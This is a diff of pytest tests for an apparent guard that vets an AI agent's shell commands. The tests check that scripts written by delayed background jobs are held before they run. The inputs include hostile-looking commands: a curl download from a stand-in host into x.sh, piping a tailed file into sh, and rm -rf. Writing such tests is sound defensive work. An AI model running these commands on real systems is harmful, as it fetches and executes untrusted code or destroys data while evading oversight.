@@ -334,6 +334,33 @@ def test_of_many_programs(stage: Stage) -> None:
     assert stage.verdict(("server.js", 'rm -rf "$1"')).startswith("hold living.runs")
 
 
+@pytest.mark.parametrize(
+    "writer",
+    [
+        f"(sleep 5; echo '{HARM}' > x.sh) &",
+        "(sleep 5; cp evil x.sh) &",
+        "nohup sh -c 'sleep 5; mv evil x.sh' &",
+        "(sleep 5; tr a-z b-za < b > x.sh) &",
+        "(sleep 5; curl -s https://x.example/x -o x.sh) &",
+    ],
+)
+def test_a_writer_that_is_still_to_write(stage: Stage, writer: str) -> None:
+    stage.put("evil", f"{HARM}\n")
+    stage.put("b", "eG0K\n")
+    stage.run(writer)
+    assert stage.verdict("sleep 9; sh x.sh").startswith("hold ")
+    assert stage.verdict("sleep 9; sh y.sh").startswith("allow")
+
+
+def test_a_copy_and_its_run_in_one_message(stage: Stage) -> None:
+    stage.put("evil", f"{HARM}\n")
+    for copy in ("cp evil x.sh", "mv evil x.sh"):
+        assert stage.may_run("exec", {"command": copy})
+        assert stage.verdict("sleep 1; sh x.sh").startswith("hold ")
+        stage.has_run("exec", {"command": copy})
+        assert stage.verdict("sleep 1; sh x.sh").startswith("allow"), "nothing has come there"
+
+
 def test_an_engine_after_this_one_knows_them(stage: Stage, tmp_path: Path) -> None:
     stage.starts(LOOP)
     stage.run("tail -F q | sh &")
@@ -347,6 +374,14 @@ def test_an_engine_after_this_one_knows_them(stage: Stage, tmp_path: Path) -> No
     assert after.verdict(("job", HARM)).startswith("hold living.runs")
     assert after.verdict(("q", HARM)).startswith("hold living.runs")
     assert after.verdict(("x.sh", HARM)).startswith("allow")
+
+
+def test_half_a_character_is_stored(stage: Stage, tmp_path: Path) -> None:
+    half = "'\ud800'"
+    stage.run(f"sh x.sh; for f in {half}/*; do sh $f; done; sh {half}; tail -f {half} | grep x | sh; tr a b < c > {half} &")
+    store = stores.file_memory(tmp_path)
+    store.save({}, stage.session.guard.living.lasting)
+    assert len(store.load()[1]) == 1
 
 
 def test_a_day_later_it_counts_as_ended() -> None:
